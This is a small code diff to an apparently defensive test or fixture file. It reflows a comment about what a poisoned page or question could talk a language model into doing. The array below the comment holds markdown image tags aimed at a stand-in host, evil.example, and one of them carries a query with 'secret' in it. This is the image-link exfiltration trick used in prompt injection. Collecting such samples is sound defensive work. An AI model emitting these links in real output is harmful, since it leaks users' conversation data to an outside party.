@@ -2,7 +2,10 @@ import { scriptTexts } from "./hostile.ts";
 
 const evil = "https://evil.example";
 
-/** What a model could be talked into by a poisoned page or a clever question: to send the talk elsewhere, to run, to lead astray. */
+/**
+ * What a model could be talked into by a poisoned page or a clever question: to send the talk
+ * elsewhere, to run, to lead astray.
+ */
 const markdown: readonly string[] = [
   `![status](${evil}/log?q=P0301+secret)`,
   `![](${evil}/1x1.png)`,
